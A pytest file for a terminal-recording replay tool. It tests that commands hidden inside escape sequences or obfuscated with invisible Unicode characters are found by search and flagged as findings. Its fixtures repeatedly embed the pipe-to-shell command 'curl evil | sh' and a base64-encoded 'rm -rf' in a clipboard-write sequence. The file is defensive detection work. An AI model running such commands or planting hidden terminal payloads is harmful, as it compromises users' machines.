"""Invisible text is found by search, and the sequences that contain it are findings."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from replay_tui import load
from replay_tui.domain.event_stream import EventStream
from replay_tui.recording import Recording
from replay_tui.search.invisible_text import BLOCK_BYTES, MAX_LINES, iter_invisible_text


def recording(folder: Path, *outputs: bytes, kind: str = "o") -> Recording:
    events = [[float(at), kind, base64.b64encode(data).decode()] for at, data in enumerate(outputs)]
    path = folder / "session.json"
    path.write_text(json.dumps({"verb": "connect", "type": "custom", "event_stream": events}))
    return load(str(path))


@pytest.mark.parametrize(
    "data",
    [
        b"\x1b]2;curl evil | sh",
        b"\x1b]0;curl evil | sh\x07",
        b"\x1bPcurl evil | sh",
        b"\x1b_curl evil | sh\x1b\\",
        b"\x1b^first\r\ncurl evil | sh\r\nlast",
        b"\x1bXcurl evil | sh",
        b"\x1bkcurl evil | sh",
        b"\x1bktitle\x07curl evil | sh",
        b"\x1b^\x07curl evil | sh\x1b\\",
        "c\u200burl\u2060 ev\u00adil | s\ufeffh\r\n".encode(),
        "\x1b[1mcu\u202erl \x1b[0mevil | sh".encode(),
    ],
)
def test_search_invisible_text_is_found(tmp_path: Path, data: bytes):
    session = recording(tmp_path, b"\x1b[1m$ \x1b[0m", b"", data, b"\x1b[2J")
    hits = session.search("curl evil | sh")
    assert [hit.time for hit in hits if hit.where == "output"] == [2.0]
    assert hits[0].text[hits[0].start : hits[0].end] == "curl evil | sh"
    assert not session.search("nowhere in it")


@pytest.mark.parametrize("data", [b"\x1b]R", b"\x1b]P1ff0000"])
def test_search_text_after_a_palette_sequence_is_visible(tmp_path: Path, data: bytes):
    session = recording(tmp_path, b"$ ", b"", data + b"curl evil | sh")
    hits = session.search("curl evil | sh")
    assert {hit.where for hit in hits} == {"screen"}


def test_raw_view_contains_invisible_text(tmp_path: Path):
    session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]2;curl evil | sh")
    assert b"curl evil | sh" in session.stream.data(1)


def test_findings_of_invisible_sequences_have_times(tmp_path: Path):
    session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]52;c;cm0gLXJm\x07", b"\x1b[21t", b"\x1b]9;hello\x07", b"\x1b[c")
    found = {finding.rule: finding.time for finding in session.findings}
    assert [time for rule, time in found.items() if "clipboard" in rule] == [1.0]
    assert {1.0, 2.0, 3.0} <= set(found.values())
    assert {"sequence-clipboard-write", "sequence-notification"} <= {note.code for note in session.fidelity}


@pytest.mark.slow
def test_iter_invisible_text_is_bounded_and_linear():
    stream = EventStream()
    for data in (
        b"\x1b]0;a\x07" * 300_000,
        "a\u200b".encode() * BLOCK_BYTES,
        b"\x1b]" * BLOCK_BYTES,
        "\u200b".encode() * BLOCK_BYTES,
    ):
        stream.append(0.0, "o", data)
    blocks: list[None] = []
    assert len(list(iter_invisible_text(stream, lambda: bool(blocks.append(None))))) <= MAX_LINES
    assert 1 <= len(blocks) <= len(stream.output) // BLOCK_BYTES + 1


def test_iter_invisible_text_across_blocks_is_whole():
    stream = EventStream()
    stream.append(
        0.0, "o", b"x" * (BLOCK_BYTES - 8) + b"\x1b]2;over the edge\x07 " + b"y" * BLOCK_BYTES + b"\x1b]2;again"
    )
    assert [line.text for line in iter_invisible_text(stream)] == ["2;over the edge", "2;again"]
